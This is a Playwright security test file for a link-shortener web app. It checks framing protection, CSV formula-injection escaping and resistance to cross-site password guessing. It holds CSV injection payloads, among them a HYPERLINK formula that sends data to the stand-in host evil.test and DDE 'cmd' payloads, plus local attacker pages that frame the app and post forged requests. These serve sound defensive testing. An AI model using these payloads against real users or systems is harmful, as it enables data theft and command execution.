import fs from "node:fs";
import http from "node:http";
import { expect, test, type Frame, type Page } from "@playwright/test";
import { parseCsv } from "../../lib/csv/index.ts";
import { admin, appUrl, shot, signUp } from "./support.ts";

// Attacks on the app that need a real browser: framing (clickjacking) and spreadsheet formulas in
// the CSV the app lets users download.

/** A page on another origin (127.0.0.1 on its own port) that frames `target`, and one of its own pages. */
async function attackerSite(target: string) {
  const server = http.createServer((req, res) => {
    res.writeHead(200, { "content-type": "text/html" });
    if (req.url === "/own") return res.end("<!doctype html><p id=own>attacker's own page</p>");
    res.end(
      `<!doctype html><h1>Win a prize</h1><iframe id=victim src="${target}" width=800 height=600></iframe><iframe id=own src="/own"></iframe>`,
    );
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}/`, close: () => server.close() };
}

async function frameNamed(page: Page, id: string): Promise<Frame> {
  const handle = await page.locator(`iframe#${id}`).elementHandle();
  const frame = await handle!.contentFrame();
  return frame!;
}

test("no other site can frame the app's pages; the app itself still opens", async ({ page }, testInfo) => {
  const { slug } = await signUp(page);
  const keysPage = `${appUrl}/w/${slug}/settings/api-keys`;

  // The legitimate path: the keys page opens at the top level, with the headers that forbid framing.
  const direct = await page.goto(keysPage);
  expect(direct!.status()).toBe(200);
  const headers = direct!.headers();
  expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'");
  expect(headers["x-frame-options"]).toBe("DENY");
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["referrer-policy"]).toBe("same-origin");
  // APP_URL is http here: no HSTS (it would pin browsers to https on a host that has none).
  expect(headers["strict-transport-security"]).toBeUndefined();
  await expect(page.getByRole("heading", { name: "API keys" })).toBeVisible();

  for (const target of [keysPage, `${appUrl}/login`]) {
    const site = await attackerSite(target);
    try {
      const blocked = page.waitForEvent("response", (r) => r.url() === target);
      await page.goto(site.url);
      expect((await blocked).headers()["x-frame-options"]).toBe("DENY");
      // The attacker's own frame renders (framing works in this browser) ...
      await expect(page.frameLocator("iframe#own").locator("#own")).toHaveText("attacker's own page");
      // ... the app's does not: Chromium replaces a refused frame with its error page.
      const victim = await frameNamed(page, "victim");
      await expect.poll(() => victim.url(), { timeout: 10_000 }).toMatch(/^chrome-error:/);
      await expect(page.frameLocator("iframe#victim").getByRole("heading", { name: "API keys" })).toHaveCount(0);
      await expect(page.frameLocator("iframe#victim").getByLabel("Email")).toHaveCount(0);
      await shot(page, testInfo, `framed-${target.endsWith("/login") ? "login" : "keys"}`);
    } finally {
      site.close();
    }
  }
});

test("the import results CSV neutralises cells a spreadsheet would run as formulas", async ({ page }, testInfo) => {
  const { slug } = await signUp(page);
  await admin("workspace:plan", { slug, plan: "team" });
  const tag = Date.now().toString(36);
  // What an attacker would hand a victim to import: formulas in the url and alias cells.
  const attacks = [
    '=HYPERLINK("https://evil.test/steal?x="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
  ];
  const csv = [
    "url,alias",
    `"${attacks[0].replace(/"/g, '""')}",`,
    `https://example.com/a-${tag},"${attacks[1]}"`,
    `"${attacks[2]}",`,
    `https://example.com/c-${tag},"${attacks[3]}"`,
    `https://example.com/fine-${tag},fine-${tag}`,
  ].join("\r\n");

  await page.goto(`/w/${slug}/links/import`);
  await page.locator('input[type="file"]').setInputFiles({ name: "prizes.csv", mimeType: "text/csv", buffer: Buffer.from(csv) });
  await page.getByRole("button", { name: /^Import 1 link/ }).click();
  await expect(page.getByTestId("import-summary")).toHaveText("1 created, 4 failed, of 5 rows in prizes.csv.", { timeout: 30_000 });
  await shot(page, testInfo, "import-formula-results");

  const download = page.waitForEvent("download");
  await page.getByRole("button", { name: "Download results (CSV)" }).click();
  const rows = parseCsv(fs.readFileSync((await (await download).path())!, "utf8")).rows;
  expect(rows[0]).toEqual(["row", "url", "alias", "status", "short", "error"]);
  // No cell starts a formula; the attacker's text is kept, behind an apostrophe.
  for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
  expect(rows[1][1]).toBe(`'${attacks[0]}`);
  expect(rows[2][2]).toBe(`'${attacks[1]}`);
  expect(rows[3][1]).toBe(`'${attacks[2]}`);
  expect(rows[4][2]).toBe(`'${attacks[3]}`);
  // The legitimate row is written as it is.
  expect(rows[5].slice(0, 4)).toEqual(["5", `https://example.com/fine-${tag}`, `fine-${tag}`, "created"]);
  expect(rows[5][4]).toBe(`${appUrl}/fine-${tag}`);
});

test("another site cannot use up a visitor's password guesses; the visitor's own form still works", async ({ page }, testInfo) => {
  const { slug } = await signUp(page);
  await admin("workspace:plan", { slug, plan: "pro" });
  const { key } = (await admin("key:create", { slug, name: "e2e" })) as { key: string };
  const site = http.createServer((req, res) => {
    res.writeHead(200, { "content-type": "text/html" });
    if (req.url === "/landing") return res.end("<!doctype html><h1>Secret landing page</h1>");
    // The attacker's page: posts 12 guesses to the link from the visitor's browser, then posts
    // the form itself (a top-level navigation, so the answer shows what the server thinks now).
    const target = decodeURIComponent(req.url!.slice(1));
    res.end(
      `<!doctype html><h1>Cute cats</h1><form id=f method=post action="${target}"><input name=password value="open sesame"></form><script>(async () => {` +
        `for (let i = 0; i < 12; i++) await fetch(${JSON.stringify(target)}, { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ password: "guess" + i }) }).catch(() => {});` +
        `document.getElementById("f").submit(); })();</script>`,
    );
  });
  await new Promise<void>((r) => site.listen(0, "127.0.0.1", r));
  const siteUrl = `http://127.0.0.1:${(site.address() as { port: number }).port}`;
  try {
    const created = await page.request.post(`${appUrl}/api/v1/links`, {
      headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
      data: JSON.stringify({ url: `${siteUrl}/landing`, password: "open sesame" }),
    });
    expect(created.status()).toBe(201);
    const { short } = (await created.json()) as { short: string };

    // The visitor opened the link once (so the browser holds the form's cookie), then visits the attacker's page.
    await page.goto(short);
    await expect(page.getByRole("heading", { name: "Password required" })).toBeVisible();
    await page.goto(`${siteUrl}/${encodeURIComponent(short)}`);
    // The forged guesses did reach the server from this browser: its posts without the form's token are now refused.
    await expect(page.getByRole("heading", { name: "Too many attempts" })).toBeVisible({ timeout: 20_000 });

    // The visitor's own form is untouched: a typo is just a wrong password, the right one opens the link.
    await page.goto(short);
    await page.getByLabel("Password").fill("open sesame?");
    await page.getByRole("button", { name: "Continue" }).click();
    await expect(page.getByRole("alert")).toHaveText("Wrong password. Try again.");
    await shot(page, testInfo, "password-after-cross-site-guesses");
    await page.getByLabel("Password").fill("open sesame");
    await page.getByRole("button", { name: "Continue" }).click();
    await expect(page.getByRole("heading", { name: "Secret landing page" })).toBeVisible();
  } finally {
    site.close();
  }
});
